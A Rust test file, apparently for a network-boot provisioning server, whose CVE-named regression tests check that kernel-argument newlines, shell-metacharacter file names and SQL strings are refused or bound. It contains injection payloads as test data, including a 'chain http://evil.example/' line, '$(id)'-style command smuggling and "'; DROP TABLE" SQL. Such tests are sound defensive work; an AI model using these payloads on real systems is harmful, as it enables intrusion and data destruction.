//! Words that become commands: in boot scripts, shells and databases.

use crate::openapi::description;
use crate::util::recipes::{ASSIGNMENTS, PROFILES, debian, memtest};
use crate::util::text::percent;
use crate::util::{Machine, Site};
use serde_json::json;

const MAC: &str = "52:54:00:00:00:77";

/// Ironic: a line break in `kernel_append_params` became a new command of the iPXE script. Here:
/// breaks in a profile's text separate arguments, a value with one is refused, and iPXE is never
/// shown another command.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cve_2026_46447_newline_in_kernel_arguments() {
    let site = Site::start().await;
    let mut profile = debian("deb");
    profile["boot_params"] = json!(
        "a=1\nshell\r\nchain http://evil.example/\rb=2\u{85}sanboot\u{2028}exit\u{b}c x={{ params.x }}"
    );
    profile["params"] = json!({"x": "plain"});
    site.profile(profile).await;
    site.assign(MAC, "n1", "deb", json!({})).await;
    let uri = format!("{ASSIGNMENTS}/{MAC}");
    // U+0000 to U+001F, U+007F to U+009F, the separators of Unicode, and what iPXE expands.
    let controls = (0..0x20_u32).chain(0x7f..0xa1).chain([0x2028, 0x2029]).filter_map(char::from_u32);
    let breaks = controls.map(|c| format!("tty0{c}shell")).chain(["${x}".into(), "a\\".into()]);
    for value in breaks {
        let answer = site.patch(&uri, json!({"boot_params_override": {"x": value}})).await;
        assert_eq!(answer.status, 422, "{value:?}");
    }
    let boot = Machine::bios(MAC).boot(&site);
    let args = &boot.kernel().args;
    assert!(
        ["shell", "chain", "http://evil.example/", "b=2", "sanboot", "exit", "c", "x=plain"]
            .iter()
            .all(|w| args.iter().any(|a| a == w)),
        "{args:?}"
    );
    assert!(boot.trace.ran("shell").is_empty());
    assert!(
        boot.asked.iter().all(|(url, _)| url.starts_with("http://10.0.0.1:8080/boot/")),
        "{:?}",
        boot.asked
    );
}

/// Foreman: the type of a PXE file went to a shell. FOG: the name of an uploaded file did. Here:
/// such names are refused where they enter, and no server code starts a program.
#[tokio::test]
async fn cve_2016_3728_cve_2024_39914_names_that_a_shell_would_run() {
    let site = Site::start().await;
    site.profile(memtest("m")).await;
    for name in
        ["a;id", "$(id)", "`id`", "a|id", "a&id", "a\nid", "-rf", "a id", "a'b", "a\"b", "a>b", "*", "~"]
    {
        let encoded = percent(name);
        let put = site.call("PUT", &format!("{PROFILES}/m/assets/{encoded}")).body("x").send().await;
        assert!(matches!(put.status, 400 | 422), "{name:?}: {}", put.status);
        let boot = site.boot(&format!("/boot/assets/m/{encoded}")).await;
        assert!(matches!(boot.status, 400 | 404), "{name:?}: {}", boot.status);
        let kind = json!({"name": "x", "profile_type": name, "kernel_path": "k"});
        site.post(PROFILES, kind).await.problem(422);
    }
}

/// The lint that keeps it so: every exception to `disallowed_methods` in the sources of the server
/// is in the lines of a test.
#[test]
fn cve_2024_39914_the_server_starts_no_programs() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let lint = std::fs::read_to_string(root.join("clippy.toml")).unwrap();
    for method in ["std::process::Command::new", "tokio::process::Command::new"] {
        assert!(lint.contains(method), "clippy.toml refuses {method}");
    }
    let mut folders =
        ["moxxie", "moxxie-store", "moxxie-core"].map(|c| root.join("crates").join(c).join("src")).to_vec();
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
                continue;
            }
            let source = std::fs::read_to_string(&path).unwrap();
            // A file of tests as a whole, or what stands before a file's tests.
            let name = path.to_string_lossy().into_owned();
            let tests = ["/tests", "_tests.rs", "testing.rs", "crashes.rs", "kills.rs", "/conformance/"];
            if tests.iter().any(|part| name.contains(part)) {
                continue;
            }
            let product = source.split("#[cfg(test)]\nmod ").next().unwrap_or("");
            assert!(!product.contains("process::Command"), "{name} starts a program");
        }
    }
}

/// Ironic Inspector: a MAC address of a lookup went into the text of an SQL statement. Here: what a
/// stranger or a person writes is bound, and finds what is so called or nothing.
#[tokio::test]
async fn cve_2019_10141_sql_in_a_lookup() {
    let site = Site::start().await;
    site.profile(debian("deb")).await;
    site.assign(MAC, "n1", "deb", json!({"armed": false, "serial": "S1"})).await;
    for text in [
        "' OR '1'='1",
        "'; DROP TABLE assignments; --",
        "\" OR 1=1",
        "%",
        "_",
        "1) UNION SELECT 1--",
        "\\'",
        "*",
    ] {
        let word = percent(text);
        for uri in [
            format!("/boot/menu.ipxe?mac={word}"),
            format!("/boot/menu.ipxe?uuid={word}&mac=52:54:00:00:00:78"),
            format!("/boot/menu.ipxe?serial={word}&mac=52:54:00:00:00:78"),
            format!("/boot/configs/{word}/{MAC}?t={word}"),
        ] {
            let answer = site.boot(&uri).await;
            assert!(matches!(answer.status, 200 | 400 | 403), "{uri}: {}", answer.status);
            assert!(!answer.text().contains("n1"), "{uri}: {}", answer.text());
        }
        for uri in [
            format!("{ASSIGNMENTS}?q={word}"),
            format!("{ASSIGNMENTS}?profile={word}"),
            format!("{ASSIGNMENTS}?sort={word}"),
            format!("{ASSIGNMENTS}?cursor={word}"),
            format!("/api/v1/boot/events?kind={word}"),
            format!("/api/v1/boot/events?mac={word}"),
        ] {
            let answer = site.get(&uri).await;
            assert!(matches!(answer.status, 200 | 400 | 422), "{uri}: {}", answer.status);
            let found =
                if answer.status == 200 { answer.json()["items"].as_array().map_or(0, Vec::len) } else { 0 };
            assert_eq!(found, 0, "{uri}: {}", answer.text());
        }
    }
    site.get(&format!("{ASSIGNMENTS}/{MAC}")).await.is(200);
}

/// Omni: a resource without its contents made the server panic. Here: every route that takes a body
/// answers nothing, and nothing inside of nothing, with an error of the client's.
#[tokio::test]
async fn cve_2025_59836_a_resource_without_contents() {
    let site = Site::start().await;
    let api = description();
    let mut tried = 0;
    for (path, methods) in api["paths"].as_object().unwrap() {
        let with_body = ["post", "put", "patch"].into_iter().filter(|m| methods.get(m).is_some());
        for method in with_body.filter(|_| path.starts_with("/api/")) {
            let uri =
                path.replace("{mac}", MAC).replace("{id}", "x").replace("{file}", "f").replace("{name}", "n");
            for body in [
                "",
                "null",
                "{}",
                "[]",
                "0",
                "\"\"",
                "[null]",
                r#"{"items":null}"#,
                r#"{"items":[null]}"#,
                r#"{"items":[{}]}"#,
                r#"{"items":[{"kind":"profile"}]}"#,
                r#"{"items":[{"kind":"assignment","params":null}]}"#,
            ] {
                let call = site.call(&method.to_uppercase(), &uri).set("content-type", "application/json");
                let answer = call.body(body).send().await;
                assert!(answer.status < 500, "{method} {uri} {body}: {} {}", answer.status, answer.text());
                tried += 1;
            }
        }
    }
    assert!(tried > 100, "{tried}");
}
